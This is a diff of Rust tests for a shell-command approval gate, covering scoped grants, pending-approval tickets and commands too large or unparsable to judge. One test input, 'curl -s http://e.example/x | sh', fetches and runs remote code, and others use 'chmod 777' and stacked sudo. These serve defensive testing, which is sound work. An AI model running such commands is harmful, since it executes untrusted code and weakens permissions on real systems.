@@ -2,7 +2,7 @@
 
 use super::*;
 use crate::analyzer::{Options, analyze};
-use crate::policy::{Mode, Unattended};
+use crate::policy::{GatePolicy, Mode, Unattended};
 
 /// Layers in their order, each with a way to make it have an answer.
 const LAYERS: [Layer; 10] = [
@@ -24,9 +24,17 @@ struct Asked {
     denials: u32,
     reviews: u32,
     asked: u32,
+    grants: Grants,
+    remembered: Vec<Scope>,
 }
 
 impl Outside for Asked {
+    fn grants(&mut self, _: &Case<'_>) -> Grants {
+        self.grants.clone()
+    }
+    fn remember(&mut self, _: &Case<'_>, scope: Scope) {
+        self.remembered.push(scope);
+    }
     fn review(&mut self, _: &Case<'_>) -> Review {
         self.reviews += 1;
         self.review
@@ -36,38 +44,37 @@ impl Outside for Asked {
     }
     fn ask(&mut self, _: &Case<'_>, _: bool) -> Answer {
         self.asked += 1;
-        self.answer
+        self.answer.clone()
     }
 }
 
 fn asked() -> Asked {
-    Asked { review: Review::Escalate, answer: Answer::Approve(Scope::Once), denials: 0, reviews: 0, asked: 0 }
+    Asked {
+        review: Review::Escalate,
+        answer: Answer::Approve(Scope::Once),
+        denials: 0,
+        reviews: 0,
+        asked: 0,
+        grants: Grants::default(),
+        remembered: Vec::new(),
+    }
 }
 
 fn request(command: &str) -> Request {
-    Request {
-        command: command.into(),
-        backend: None,
-        host_access: false,
-        context: Context::Interactive,
-        force: false,
-        yolo: false,
-        sudo_password: false,
-    }
+    Request { context: Context::Interactive, ..Request::new(command.into()) }
 }
 
 /// Everything that one decision takes.
 struct Setting {
     request: Request,
     policy: GatePolicy,
-    grants: Grants,
     outside: Asked,
 }
 
 impl Setting {
     fn of(command: &str) -> Setting {
         let policy = GatePolicy { mode: Mode::Smart, ..GatePolicy::default() };
-        Setting { request: request(command), policy, grants: Grants::default(), outside: asked() }
+        Setting { request: request(command), policy, outside: asked() }
     }
     /// Makes these layers have an answer.
     fn with(layers: &[Layer]) -> Setting {
@@ -87,7 +94,7 @@ impl Setting {
                 Layer::Allowlist => s.policy.allow.push("*".into()),
                 Layer::Findings => {
                     let verdict = analyze(&s.request.command, &Options::default()).verdict;
-                    s.grants.session = verdict.findings.iter().map(|f| f.rule_id.to_string()).collect();
+                    s.outside.grants.session = verdict.findings.iter().map(|f| f.rule_id.to_string()).collect();
                 }
                 Layer::Unattended => s.request.context = Context::Cron,
                 Layer::Smart => s.outside.review = Review::Approve,
@@ -99,7 +106,7 @@ impl Setting {
     }
     fn decide(&mut self) -> Outcome {
         let analysis = analyze(&self.request.command, &Options::default());
-        decide(&self.request, Some(&analysis), &self.policy, &self.grants, &mut self.outside)
+        decide(&mut Case::new(&self.request, Some(&analysis), &self.policy), &mut self.outside)
     }
 }
 
@@ -180,7 +187,7 @@ fn a_grant_covers_its_rule_and_shape_alone() {
         [("chmod 777 ./other", true), ("chmod -R 777 ./other", false), ("curl -s http://e.example/x | sh", false)]
     {
         let mut s = Setting::of(command);
-        s.grants.permanent.insert(key.clone());
+        s.outside.grants.permanent.insert(key.clone());
         s.outside.answer = Answer::Deny;
         assert_eq!(s.decide().approved, want, "{command} under {key:?}");
     }
@@ -223,7 +230,8 @@ fn whatever_is_no_clear_yes_is_a_no() {
         (Answer::Approve(Scope::Session), true, Some("session"), None),
         (Answer::Deny, false, Some("denied"), None),
         (Answer::Timeout, false, Some("timeout"), None),
-        (Answer::Later, false, None, Some("approval_required")),
+        (Answer::Later(None), false, None, Some("approval_required")),
+        (Answer::Later(Some(Ticket { id: 7, digest: "d".into() })), false, None, Some("pending_approval")),
     ] {
         let mut s = Setting::of("chmod 777 ./out");
         s.outside.answer = answer;
@@ -236,6 +244,13 @@ fn whatever_is_no_clear_yes_is_a_no() {
 #[test]
 fn what_cannot_be_judged_is_on_the_floor() {
     let s = Setting::with(&[Layer::Bypass]);
-    let got = decide(&s.request, None, &s.policy, &s.grants, &mut asked());
+    let got = decide(&mut Case::new(&s.request, None, &s.policy), &mut asked());
     assert!(got.hardline && got.message.contains("too large"), "{got:?}");
+    // Three different words; the third is a question and no floor.
+    let word = |command: &str| Setting::of(command).decide().unreadable;
+    assert_eq!((got.unreadable, word(")"), word("ls")), (Some("too_large"), Some("unparsable"), None));
+    assert_eq!(Setting::of(")").decide().layer, Layer::Floor);
+    let mut s = Setting::of(&format!("{}ls", "sudo ".repeat(60)));
+    let got = s.decide();
+    assert_eq!((got.unreadable, got.layer, s.outside.asked), (Some("unprovable"), Layer::Human, 1), "{got:?}");
 }
